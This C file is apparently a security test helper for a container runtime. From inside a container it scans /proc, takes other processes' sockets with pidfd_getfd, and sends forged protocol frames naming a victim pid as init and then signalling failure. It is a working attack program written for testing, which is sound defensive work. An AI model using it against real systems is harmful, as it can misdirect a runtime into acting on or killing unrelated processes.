// forge VICTIM: in a container that may trace its processes, waits for a husk-init to come by, takes its socket
// (pidfd_getfd), and says in its name: "init's pid is VICTIM", and "it has failed". Prints "sent" once something was
// taken. See exec_security.bats.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

struct frame {  // src/start/protocol.h
  uint32_t magic, version, kind, who, step;
  int32_t err;
  uint32_t whole, unused;
  int64_t value;
  char what[408], path[1024];
};

// First that init has the victim's pid, then an error, upon which the runtime ends init. What is not its to say would
// end the start before it has believed anything, so nothing else is tried.
static int forge(int socket, int64_t victim) {
  const uint32_t kinds[] = {5, 15};  // init_pid, error
  int sent = 0;
  for (int i = 0; i < 2; ++i) {
    struct frame f = {0x6b737568, 1, kinds[i], 2, UINT32_MAX, 1, 0, 0, victim, "forged", ""};
    sent += send(socket, &f, sizeof f, MSG_NOSIGNAL | MSG_DONTWAIT) == sizeof f;
  }
  return sent;
}

static int try_process(pid_t pid, int64_t victim) {
  char path[64], name[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int file = open(path, O_RDONLY);
  if (file < 0) return 0;
  if (read(file, name, sizeof name - 1) < 0) name[0] = 0;
  close(file);
  if (strcmp(name, "forge\n") == 0 || strcmp(name, "sh\n") == 0) return 0;
  int process = (int)syscall(SYS_pidfd_open, pid, 0), sent = 0;
  for (int fd = 3; process >= 0 && fd < 12; ++fd) {
    int socket = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
    if (socket < 0) continue;
    sent += forge(socket, victim);
    close(socket);
  }
  if (process >= 0) close(process);
  return sent;
}

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  for (;;) {
    DIR* proc = opendir("/proc");
    if (proc == NULL) return 1;
    int sent = 0;
    for (struct dirent* e; (e = readdir(proc)) != NULL;)
      if (atoi(e->d_name) > 1 && atoi(e->d_name) != getpid()) sent += try_process(atoi(e->d_name), atoll(argv[1]));
    closedir(proc);
    if (sent > 0) {
      puts("sent");
      fflush(stdout);
    }
  }
}
